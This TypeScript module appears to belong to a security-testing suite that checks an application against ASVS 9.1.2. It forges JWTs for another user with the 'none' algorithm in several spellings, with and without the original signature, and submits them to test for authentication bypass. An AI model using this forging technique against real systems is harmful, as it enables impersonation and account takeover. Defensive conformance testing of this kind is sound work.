import type { AppUnderAttack } from '../app.js';
import type { AppAttack } from '../app-attack.js';
import { openToken, tryForged } from '../tools/forged-tokens.js';
import { buildJwt, claimOther } from '../tools/jwt.js';

/** Undefined: the header has no `alg`. */
const spellings = ['none', 'None', 'NONE', 'nOnE', '', undefined];

export const jwtNone: AppAttack = {
  title: 'a token for another user with the algorithm "none", in several spellings, with and without a signature',
  asvs: ['9.1.2'],
  run,
};

async function run(app: AppUnderAttack) {
  const opened = await openToken(app);
  if ('none' in opened) return opened.none;
  const { attacker, victim, jwt } = opened;
  const claims = claimOther(jwt.claims, attacker.user, victim.user);
  return tryForged(
    app,
    opened,
    spellings.flatMap(alg => [
      { what: `${nameAlgorithm(alg)} and no signature`, token: buildJwt({ ...jwt.header, alg }, claims, () => '') },
      {
        what: `${nameAlgorithm(alg)} and the old signature`,
        token: buildJwt({ ...jwt.header, alg }, claims, () => jwt.signature),
      },
    ]),
  );
}

function nameAlgorithm(alg: string | undefined): string {
  return alg === undefined ? 'no alg' : `alg "${alg}"`;
}
